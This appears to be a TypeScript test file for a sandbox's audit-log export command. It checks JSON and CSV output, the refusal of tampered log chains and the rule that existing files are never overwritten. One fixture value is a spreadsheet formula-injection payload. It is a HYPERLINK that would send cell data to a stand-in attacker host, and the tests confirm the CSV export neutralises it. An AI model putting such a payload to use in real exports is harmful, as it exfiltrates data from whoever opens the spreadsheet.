/** `cordon audit export`: formats, formula-safe CSV, broken chains refused or marked, files never overwritten. */
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, it, type TestContext } from 'node:test';
import { csvField, exportLog } from './export.js';
import { AuditWriter } from './writer.js';

function makeLog(t: TestContext): { path: string; dir: string } {
  const dir = mkdtempSync(join(tmpdir(), 'cordon-export-'));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  const w = AuditWriter.open({ dir, session: 's_0abc' });
  w.write({ boundary: 'supervisor', subject: 'Run(true)', decision: 'allow', rule: 'default', reason: 'Sandbox started.' });
  w.write({ boundary: 'egress', subject: '=HYPERLINK("http://evil.example/?"&A1,"x")', decision: 'deny', rule: 'deny Net(*) default', reason: 'destination, "quoted"\nnot allowed',
    findings: [{ detector: 'github-token', where: 'body', sample: 'ghp_…abcd' }] });
  w.close();
  return { path: w.path, dir };
}

async function run(path: string, format: 'jsonl' | 'json' | 'csv', extra: { force?: boolean; file?: string } = {}): Promise<{ code: number; out: string; err: string[] }> {
  let out = '';
  const err: string[] = [];
  const code = await exportLog(path, { format, out: (c) => (out += c), err: (l) => err.push(l), ...extra });
  return { code, out, err };
}

void describe('audit export', () => {
  void it('exports every record as JSON lines and as a JSON array', async (t) => {
    const { path } = makeLog(t);
    const jsonl = await run(path, 'jsonl');
    assert.equal(jsonl.code, 0);
    assert.deepEqual(jsonl.out, readFileSync(path, 'utf8'), 'an intact chain exports the records unchanged');
    const json = await run(path, 'json');
    const arr = JSON.parse(json.out) as { seq: number; subject: string }[];
    assert.deepEqual(arr.map((r) => r.seq), [1, 2]);
    assert.match(json.err.join('\n'), /2 record\(s\)/);
  });

  void it('writes CSV that no spreadsheet turns into a formula', async (t) => {
    const { path } = makeLog(t);
    const csv = await run(path, 'csv');
    assert.equal(csv.code, 0);
    assert.match(csv.out, /^seq,ts,session,boundary,subject,decision,rule,reason,mandatory,reportOnly,findings,chainIntact\n/);
    assert.ok(csv.out.includes(`"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`), csv.out);
    assert.ok(csv.out.includes('"destination, ""quoted""\nnot allowed"'));
    assert.ok(csv.out.includes('github-token@body:ghp_…abcd'));
    assert.equal(csvField('-1+2'), "'-1+2");
    assert.equal(csvField('@SUM(A1)'), "'@SUM(A1)");
    assert.equal(csvField('plain'), 'plain');
  });

  void it('refuses a broken chain unless forced, and then marks every record', async (t) => {
    const { path } = makeLog(t);
    const lines = readFileSync(path, 'utf8').split('\n');
    lines[0] = (lines[0] ?? '').replace('"decision":"allow"', '"decision":"deny"');
    writeFileSync(path, lines.join('\n'));
    const refused = await run(path, 'jsonl');
    assert.equal(refused.code, 1);
    assert.equal(refused.out, '');
    assert.match(refused.err.join('\n'), /broken/);
    const forced = await run(path, 'jsonl', { force: true });
    assert.equal(forced.code, 0);
    const recs = forced.out.trim().split('\n').map((l) => JSON.parse(l) as { chainIntact?: boolean });
    assert.equal(recs.length, 2);
    assert.ok(recs.every((r) => r.chainIntact === false));
  });

  void it('writes a new 0600 file and never overwrites one', async (t) => {
    const { path, dir } = makeLog(t);
    const file = join(dir, 'out.csv');
    assert.equal((await run(path, 'csv', { file })).code, 0);
    assert.match(readFileSync(file, 'utf8'), /^seq,/);
    const again = await run(path, 'csv', { file });
    assert.equal(again.code, 2);
    assert.match(again.err.join('\n'), /EEXIST.*never overwritten/);
  });
});
